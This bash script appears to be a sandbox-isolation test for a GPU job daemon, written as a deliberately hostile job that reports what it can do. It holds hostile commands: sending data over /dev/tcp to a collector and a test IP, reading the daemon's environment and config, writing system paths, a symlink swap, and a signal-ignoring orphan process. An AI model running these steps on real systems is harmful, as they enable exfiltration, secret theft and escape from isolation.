#!/bin/bash
# Tries what it likes; CUSTOM_USER_CONFIG says where that is. It says "could X" where it could.
eval "$CUSTOM_USER_CONFIG" # STATE, COLLECTOR, DAEMON
try() { local what=$1; shift; if "$@" 2>/dev/null; then echo "could $what"; else echo "could not $what"; fi; }
tcp() { timeout 3 bash -c "echo stolen > /dev/tcp/${1%:*}/${1##*:}"; }

try "read the store" head -c 1 "$STATE/gpuarbiter.db"
try "list the state" bash -c '[ "$(ls "$0")" != workers ] || [ "$(ls "$0"/workers/*/* | wc -l)" -gt 9 ]' "$STATE" # its own folder is below
try "read the configuration" cat "$STATE/../config.yaml"
try "reach a collector" tcp "$COLLECTOR"
try "reach the network" tcp 192.0.2.1:443
try "talk to the daemon's socket" python3 -c 'import socket,sys; socket.socket(socket.AF_UNIX).connect(sys.argv[1])' "$STATE/control.socket"
try "signal the daemon" kill -0 "$DAEMON"
try "read the daemon's environment" cat "/proc/$DAEMON/environ"
try "write the system" touch /usr/local/bin/hostile
try "leave a job" test -e /etc/cron.d/hostile
try "mount" mount -t tmpfs none /mnt
try "become root of another place" unshare --mount true
try "write its own package" bash -c 'echo x >> /opt/hostile-was-here'
try "fill the memory" bash -c 'head -c 1G /dev/zero > /hive/full'
rm -f /hive/full
rm -f "$GPUARBITER_STATS" && ln -s "$STATE/gpuarbiter.db" "$GPUARBITER_STATS"
env -i setsid bash -c 'trap "" TERM HUP INT; exec -a hostile-orphan sleep 3600' &
echo "it has tried"
trap '' TERM
while :; do sleep 1; done
